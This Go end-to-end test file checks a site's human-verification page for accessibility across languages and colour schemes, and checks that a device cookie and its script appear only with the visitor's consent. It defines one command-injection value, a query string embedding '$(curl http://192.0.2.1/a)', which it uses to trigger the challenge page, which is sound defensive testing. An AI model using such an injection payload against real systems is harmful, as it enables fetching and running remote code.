package e2e_test

import (
	"os"
	"testing"
)

// attackPath makes whoever asks for it face the question.
const attackPath = "/?q=$(curl%20http://192.0.2.1/a)"

// TestTheQuestionHasNoBarriers: the page that asks whether somebody is a person, in each language, light and dark, on the narrowest
// screen, before and after a wrong answer.
func TestTheQuestionHasNoBarriers(t *testing.T) {
	source, err := os.ReadFile("testdata/axe/axe.min.js")
	if err != nil {
		t.Fatal(err)
	}
	p := start(t, "--risk", "enforce")
	for _, lang := range []string{"kk", "ru", "en"} {
		t.Run(lang, func(t *testing.T) {
			v := visit(t, p.site, options{language: lang})
			v.allowed = []string{"403", "429"}
			v.open(attackPath)
			for _, state := range []string{"asked", "wrong"} {
				if state == "wrong" {
					ask[bool](v, `(document.querySelector("#answer").value = "99", true)`)
					v.submit("button", "/consent/answer")
				}
				if got := ask[string](v, `document.documentElement.lang + " " + document.querySelectorAll("#answer, #fault").length`); got != lang+map[string]string{"asked": " 1", "wrong": " 2"}[state] {
					t.Fatalf("%s: the page is %q", state, got)
				}
				v.wantFits("the question, " + state)
				for _, scheme := range []string{"light", "dark"} {
					v.look(320, 640, scheme)
					v.audit(string(source), "the question, "+state+", "+scheme, "document")
					if *shots != "" {
						v.picture("question-"+lang+"-"+state+"-"+scheme, true)
					}
				}
			}
			v.wantJar()
		})
	}
}

// TestS4_4_5_PagesTellOfBrowsersWithConsentOnly: a browser keeps the device cookie and runs the script while its visitor consents.
func TestS4_4_5_PagesTellOfBrowsersWithConsentOnly(t *testing.T) {
	p := start(t)
	v := visit(t, p.site, options{})
	scripts := func() int { return ask[int](v, `document.querySelectorAll("script[src*='/device.']").length`) }
	v.open("/")
	v.shown(panel)
	if v.jar()["kelisim_device"] != nil || scripts() != 0 {
		t.Error("before the choice there is a device cookie or its script")
	}
	v.click(accept)
	v.hidden(panel)
	v.open("/articles")
	if c := v.jar()["kelisim_device"]; c == nil || !c.HTTPOnly || scripts() != 1 {
		t.Fatalf("with consent: cookie %v, %d scripts", c, scripts())
	}
	v.await(`performance.getEntriesByType("resource").some(e => e.name.endsWith("/consent/device") && e.responseStatus === 204)`)
	v.open("/")
	if n := scripts(); n != 0 {
		t.Errorf("once told there are %d scripts", n)
	}
	v.click(reopen)
	v.shown(panel)
	v.click(reject)
	v.hidden(panel)
	v.open("/articles")
	if v.jar()["kelisim_device"] != nil || scripts() != 0 {
		t.Error("after the withdrawal there is a device cookie or its script")
	}
}
